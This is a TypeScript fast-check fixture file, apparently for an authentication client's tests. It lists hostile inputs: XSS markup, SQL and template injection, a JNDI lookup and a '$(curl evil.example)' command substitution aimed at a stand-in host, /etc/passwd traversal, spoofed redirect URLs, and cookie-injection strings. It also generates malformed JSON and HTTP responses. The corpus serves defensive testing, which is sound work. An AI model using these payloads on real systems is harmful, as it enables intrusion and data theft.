import fc from 'fast-check';

/*
 * Untrusted input: strings, URLs, messages, cookies and responses that have broken other readers, pages and logs. Every screen,
 * call and reader is tested with them; add new ones here.
 */

/** Names that break careless readers, in addition to the protocol's names. */
const treacherousNames: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'hasOwnProperty',
  'isPrototypeOf',
  '__defineGetter__',
  '__lookupSetter__',
  'toString',
  'toLocaleString',
  'valueOf',
  'toJSON',
  'length',
  'name',
  'then',
  'catch',
  'default',
  '$typeof',
  '$$typeof',
  'dangerouslySetInnerHTML',
  'ref',
  'key',
  'undefined',
  'null',
  'NaN',
  'true',
  '0',
  '-1',
  '',
];

/** Markup that runs if text is inserted as HTML. */
export const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</title></style></textarea></noscript></template><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert`1`>',
  '<svg/onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">here</a>',
  '<form action=//evil.example><input name=password autofocus onfocus=alert(1)></form>',
  '<details open ontoggle=alert(1)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";input[value^=a]{background:url(//evil.example/a)}</style>',
  '<x contenteditable onblur=alert(1)>lose focus',
  '" autofocus onfocus="alert(1)',
  "' onmouseover='alert(1)",
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<ScRiPt\u0000>alert(1)</sCrIpT>',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
];

// biome-ignore-start lint/suspicious/noTemplateCurlyInString: hostile texts
/** Placeholders of templates, queries, formulas and shells; our own sentences use braces, and `replace` uses dollars. */
export const templates: readonly string[] = [
  '{email}',
  '{destination}',
  '{provider}',
  '{__proto__}',
  '{constructor}',
  '{{7*7}}',
  '${alert(1)}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{constructor.constructor("alert(1)")()}}',
  '$&',
  "$'",
  '$`',
  '$1',
  '$<name>',
  '%s %d %o %O %j %c',
  '%c', // In a console, styles the text after it.
  "' OR '1'='1",
  '"; DROP TABLE users; --',
  '=HYPERLINK("//evil.example")',
  '${jndi:ldap://evil.example/a}',
  '$(curl evil.example)',
  '`id`',
  '../../../../etc/passwd',
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: hostile texts

/** Characters that reverse, hide, stack or end text. */
export const characters: readonly string[] = [
  '\u202emoc.live\u202c',
  '\u2066\u2067\u2068abc\u2069',
  '\u200f\u200e\u061c',
  '\u05d0\u05d1\u05d2 abc \u0661\u0662\u0663',
  '\u200b\u200c\u200d\u2060\ufeff',
  'a\u00adb\u00adc',
  '\u3164\uffa0\u2800',
  '\u{e0061}\u{e0062}\u{e007f}',
  `a${'\u0301'.repeat(300)}`,
  '\u0489'.repeat(50),
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
  '\ufdfd'.repeat(20),
  '\ud800',
  '\udfff',
  'a\udfff',
  '\ud83d\ud83d\udd12',
  '\0',
  'a\0b',
  '\u0001\u0007\u0008\u001b[31mred\u001b[0m\u007f\u0085\u009b31m',
  'one\r\ntwo',
  'one\rtwo\ntwo\u2028three\u2029four\u000bfive\u000csix',
  '\t',
  ' ',
  '\u00a0\u2000\u2003\u3000',
  '\ufffe\uffff\ufdd0',
  'I\u0307\u0131\u0130\u017f\u212a',
  '\ufb01\u1e9e\u0149',
  'p\u0430yp\u0430l.com',
  '\uff0e\uff0f\uff1a\uff20',
];

/** URLs that run scripts, read local files, or have a misleading host. */
export const addresses: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  'javascript\t:alert(1)',
  'javascript&colon;alert(1)',
  'javascript://app.acme.com/%0aalert(1)',
  'javascript:"https://app.acme.com"',
  'view-source:javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'DATA:,x',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'blob:https://app.acme.com/9115d58c-bcda-ff47-86e5-083e9a215304',
  'blob:null/x',
  'filesystem:https://app.acme.com/temporary/x.html',
  'file:///etc/passwd',
  'FILE:/etc/passwd',
  'vbscript:msgbox',
  'about:blank',
  'about:srcdoc',
  'chrome://settings',
  'intent://evil.example#Intent;scheme=https;end',
  'ws://evil.example',
  'https://app.acme.com/in',
  'https://app.acme.com@evil.example/',
  'https://app.acme.com:pw@evil.example/',
  'https://app.acme.com\\@evil.example/',
  'https://app.acme.com%2f@evil.example/',
  'https://app.acme.com.evil.example/',
  'https://evil.example/app.acme.com',
  'https://stytch.com.evil.example/',
  'https://stytch.com@evil.example/',
  'https://www.stytch.com"onclick=alert(1)',
  'https://xn--pypal-4ve.com/',
  'https://\u2044evil.example/',
  'https:evil.example',
  'https:///evil.example',
  'https:\\\\evil.example',
  '//evil.example',
  '/\\evil.example',
  '\\\\evil.example',
  '///evil.example',
  'http://[::1]:6666/',
  'http://0x7f.1/',
  'http://2130706433/',
  'http://app.acme.com:99999/',
  'http://app.acme.com:0/',
  'https://',
  'https://%00/',
  'https://a..b/',
  'https://a b/',
  'https://app.acme.com/?token=a&token=b&stytch_token_type=oauth',
  'https://app.acme.com/#token=a',
  'https://app.acme.com/%0d%0aSet-Cookie:a=b',
  `https://app.acme.com/${'a'.repeat(70_000)}`,
  '?',
  '#',
  '',
];

/** Cookie names and values that end the cookie or add another. */
export const cookieTexts: readonly string[] = [
  'a; domain=evil.example',
  'a; path=/; expires=Thu, 01 Jan 1970 00:00:00 GMT',
  'a;b=c',
  ';',
  '=',
  '==a',
  'a=b=c',
  'a,b',
  '"a"',
  '"a; b"',
  '%3B%20domain%3Devil.example',
  '%',
  '%zz',
  '%ff%fe',
  '%00',
  'a\r\nSet-Cookie: b=c',
  'a\tb',
  ' a ',
  '\u00fc',
  '\u{1f512}',
  '__Host-a',
  '__Secure-a',
  'x'.repeat(5_000),
];

/** Numbers at the limits of numeric types. */
export const numbers: readonly number[] = [
  0,
  1,
  -1,
  0.1,
  5e-324,
  Number.EPSILON,
  2 ** 31 - 1,
  2 ** 31,
  -(2 ** 31),
  2 ** 32,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 1,
  Number.MIN_SAFE_INTEGER,
  8.64e15,
  8.64e15 + 1,
  1e21,
  1e308,
  Number.MAX_VALUE,
  -Number.MAX_VALUE,
];

/** Texts so long that copying, comparing or rendering them repeatedly is slow. */
const huge: readonly string[] = [
  'x'.repeat(1_000_000),
  '\ud83d\udddd'.repeat(250_000),
  'https://stytch.com/'.repeat(50_000),
  '{email}'.repeat(100_000),
  '<b>'.repeat(300_000),
  '\u0301'.repeat(500_000),
  ' '.repeat(1_000_000),
  '1'.repeat(1_000_000),
];

/** Every text of the lists for screens, fields and calls, except the long ones. */
export const hostileTexts: readonly string[] = [
  ...new Set([...treacherousNames, ...markup, ...templates, ...characters, ...addresses, ...cookieTexts]),
];

const strings = fc.oneof(
  { weight: 25, arbitrary: fc.string() },
  { weight: 10, arbitrary: fc.string({ unit: 'binary' }) },
  { weight: 10, arbitrary: fc.constantFrom('', '.', '..', '../..', '%2e%2e', '%2E%2E%2F', '..%00/', ...treacherousNames) },
  { weight: 10, arbitrary: fc.constantFrom(...markup, ...templates) },
  { weight: 10, arbitrary: fc.constantFrom(...characters, ...cookieTexts) },
  { weight: 8, arbitrary: fc.constantFrom(...addresses) },
  { weight: 1, arbitrary: fc.constantFrom(...huge) },
);

const leaves = fc.oneof(strings, fc.constantFrom<unknown>(null, true, false, ...numbers), fc.integer());

/** Generates any JSON value with these names as `JSON.parse` returns it, including own keys such as `__proto__`. */
export function hostileJson(names: readonly string[]): fc.Arbitrary<unknown> {
  const name = fc.oneof(fc.constantFrom(...names, ...treacherousNames), fc.string({ maxLength: 3 }));
  const { text } = fc.letrec<{ text: string }>((tie) => ({
    text: fc.oneof(
      { maxDepth: 3, withCrossShrink: true },
      leaves.map((leaf) => JSON.stringify(leaf)),
      fc.array(tie('text'), { maxLength: 3 }).map((items) => `[${items.join()}]`),
      fc
        .array(fc.tuple(name, tie('text')), { maxLength: 4 })
        .map((entries) => `{${entries.map(([key, value]) => `${JSON.stringify(key)}:${value}`).join()}}`),
    ),
  }));
  const whole = fc.oneof(
    { weight: 60, arbitrary: text },
    { weight: 1, arbitrary: fc.tuple(name, fc.constantFrom(200, 500)).map(([key, depth]) => nested(JSON.stringify(key), depth)) },
  );
  return whole.map((json): unknown => JSON.parse(json));
}

/** Returns nested records and lists, deeper than recursion should go. */
const nested = (key: string, depth: number) => `${`{${key}:[`.repeat(depth)}null${']}'.repeat(depth)}`;

/** Generates strings of any kind, including long and invalid ones. */
export const hostileString = strings;

/** Generates JavaScript values that JSON cannot represent. */
export const beyondJson = fc.constantFrom<unknown>(
  undefined,
  NaN,
  Infinity,
  -Infinity,
  -0,
  10n,
  Symbol('hostile'),
  () => 'text',
  new Date(Number.NaN),
  new Map([['email', 'a@b.co']]),
  Object.create(null),
  Object.freeze({ toString: () => 'text' }),
);

/** Generates responses: mostly JSON with the envelope or an error, and any content. */
export function hostileAnswer(names: readonly string[]): fc.Arbitrary<{ status: number; type: string; body: string }> {
  const json = hostileJson(names);
  const refusal = fc.record({ error_type: leaves, error_message: leaves, error_url: leaves, status_code: leaves, request_id: leaves });
  const shape = fc.record({ body: fc.array(fc.record({ dataPath: leaves, message: leaves }), { maxLength: 3 }) });
  const body = fc.oneof(
    json.map((data) => JSON.stringify({ data })),
    fc.oneof(refusal, shape, json).map((value) => JSON.stringify(value)),
    hostileString,
    fc.constantFrom('', '{', '[[[[', '\ufeff{}', '{"data":{}}{"data":{}}', '[1e999]', '{"data":null,"data":{}}', 'Captcha required'),
  );
  return fc.record({
    status: fc.constantFrom(200, 200, 200, 204, 206, 299, 300, 304, 400, 401, 403, 404, 418, 429, 451, 500, 503, 599),
    type: fc.constantFrom('application/json', 'application/json; charset=utf-8', 'text/html', 'text/plain', 'application/problem+json', ''),
    body,
  });
}
